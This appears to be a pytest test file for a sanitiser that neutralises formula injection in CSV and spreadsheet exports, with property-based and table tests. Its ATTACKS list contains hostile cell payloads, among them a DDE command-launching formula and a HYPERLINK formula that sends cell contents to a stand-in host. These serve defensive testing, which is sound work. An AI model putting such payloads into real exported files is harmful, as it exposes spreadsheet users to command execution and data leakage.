"""What goes into files for spreadsheets is never a formula there."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.spreadsheet import safe_frame, safe_rows, safe_text

ATTACKS = [
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "\ufeff=1+1",
    "＝1+1",
    "Thanet;=1+1",
    "Thanet\t=1+1",
    "Thanet,@SUM(A1)",
    "Thanet\r\n=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    safe = safe_text(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")
    for separator in ",;\t":
        file = io.StringIO()
        csv.writer(file).writerows(safe_rows([[text, "x"]]))
        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
            for cell in row:
                assert not cell.strip(' "\ufeff\r\n\t').startswith(tuple("=+-@＝＋－＠")), (separator, row)


@pytest.mark.parametrize(
    "value", [5, -3, 2.5, None, "", "-3", "+2.5", "1,234", "−7%", "Thanet", "a = b", "e-mail", "+11%"]
)
def test_numbers_and_plain_words_stay(value: object) -> None:
    assert safe_text(value) == value


@given(st.text())
def test_made_safe_twice_is_the_same(text: str) -> None:
    assert safe_text(safe_text(text)) == safe_text(text)


def test_a_table_keeps_its_numbers() -> None:
    frame = safe_frame(pd.DataFrame({"district": ["=1", "Thanet"], "count": [1, -2]}))
    assert frame["district"].tolist() == ["'=1", "Thanet"]
    assert frame["count"].tolist() == [1, -2]
